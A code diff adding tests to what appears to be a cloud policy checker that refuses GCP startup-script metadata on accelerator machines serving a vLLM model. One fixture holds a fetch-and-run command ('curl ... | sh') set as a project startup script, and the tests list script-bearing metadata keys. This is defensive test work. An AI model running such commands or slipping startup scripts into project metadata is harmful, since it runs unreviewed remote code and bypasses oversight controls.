@@ -694,3 +694,41 @@ def test_options_that_change_the_model_code_or_weights_are_refused(
 @pytest.mark.parametrize("options", ["--dtype bfloat16", "--dtype=auto", "--no-trust-remote-code"])
 def test_options_that_keep_the_checkpoint_as_it_is_are_read(options: str) -> None:
     assert violations(vllm_server_readable, SERVICE, shell_service(f"{GOOD} {options}")) == []
+
+
+@pytest.mark.parametrize(
+    "key",
+    ["windows-startup-script-ps1", "windows-startup-script-cmd", "windows-startup-script-url",
+     "sysprep-specialize-script-ps1", "shutdown-script", "user-data",
+     "gce-container-declaration"],
+)  # fmt: skip
+def test_every_metadata_script_key_on_an_accelerator_machine_is_refused(key: str) -> None:
+    props = {"machineType": "g2-standard-8", "metadata": {key: "x", "startup-script": TPU_SCRIPT}}
+    (message,) = violations(vllm_server_readable, INSTANCE, props)
+    assert key in message
+
+
+@pytest.mark.parametrize(
+    ("type_", "props"),
+    [
+        ("gcp:compute/projectMetadata:ProjectMetadata",
+         {"metadata": {"startup-script": "curl -s https://x/r | sh"}}),
+        ("gcp:compute/projectMetadata:ProjectMetadata", {"metadata": {"startup-script-url": "gs://b/r"}}),
+        ("gcp:compute/projectMetadataItem:ProjectMetadataItem",
+         {"key": "startup-script", "value": "/opt/real-server"}),
+        ("gcp:compute/projectMetadataItem:ProjectMetadataItem",
+         {"key": "windows-startup-script-ps1", "value": "x"}),
+    ],
+)  # fmt: skip
+def test_project_metadata_scripts_are_refused(type_: str, props: dict[str, Any]) -> None:
+    # Instances inherit project metadata: a startup script there runs on the accelerator
+    # machines too, beside (or instead of) the one the policies read.
+    (message,) = violations(vllm_server_readable, type_, props)
+    assert "every Compute Engine machine of the project" in message
+
+
+def test_project_metadata_without_scripts_passes() -> None:
+    props = {"metadata": {"enable-oslogin": "TRUE"}}
+    assert (
+        violations(vllm_server_readable, "gcp:compute/projectMetadata:ProjectMetadata", props) == []
+    )
